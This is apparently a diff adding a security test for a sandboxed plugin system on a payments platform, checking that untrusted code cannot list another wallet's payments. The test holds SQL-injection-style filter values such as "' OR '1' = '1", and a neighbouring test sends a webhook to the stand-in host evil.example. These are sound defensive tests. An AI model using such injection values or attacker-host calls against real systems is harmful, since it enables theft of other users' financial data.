@@ -160,6 +160,34 @@ describe('code that means harm', () => {
     }
   })
 
+  test('lists the payments of its wallet only, whatever it asks for', async () => {
+    const source = one(`
+      const item = await ctx.items.get(request.params.id)
+      const seen = []
+      for (const query of [{}, { status: "pending' OR wallet_id <> '", min: 0 }, { direction: "in' OR '1' = '1" }, { limit: -1 },
+        { from: '0 OR 1' }, { walletIds: ['x'], search: 'x', callerId: 'x' }, null]) {
+        try { seen.push((await ctx.wallets.payments(item.wallet, query)).map(({ memo }) => memo)) }
+        catch (error) { seen.push(error.name) }
+      }
+      return { json: seen }`)
+    const { world, make, wallet } = await open(source, PUBLIC, { permissions: [permission('payments.read')] })
+    const invoice = await world.call('POST', '/api/v1/payments', {
+      key: wallet.adminKey,
+      body: { out: false, amount: 1, memo: 'own' },
+    })
+    const other = await world.openWallet(100)
+    const theirs = await world.call('POST', '/api/v1/payments', {
+      key: other.adminKey,
+      body: { out: false, amount: 1, memo: 'theirs' },
+    })
+    expect([invoice.status, theirs.status]).toEqual([201, 201])
+    const { status, body } = await world.call('GET', `/shop/public/${await make()}/do`)
+    expect(status).toBe(200)
+    const own = expect.arrayContaining(['own'])
+    expect(body).toEqual([own, 'Rejection', 'Rejection', 'Rejection', 'Rejection', own, own])
+    expect(JSON.stringify(body)).not.toContain('theirs')
+  })
+
   test('sends webhooks to the hosts of its manifest only', async () => {
     const source = one(`await ctx.notify.webhook('https://evil.example/x', 1, {}); return { json: 1 }`)
     const { world, make } = await openCodeWorld(source, PUBLIC, {
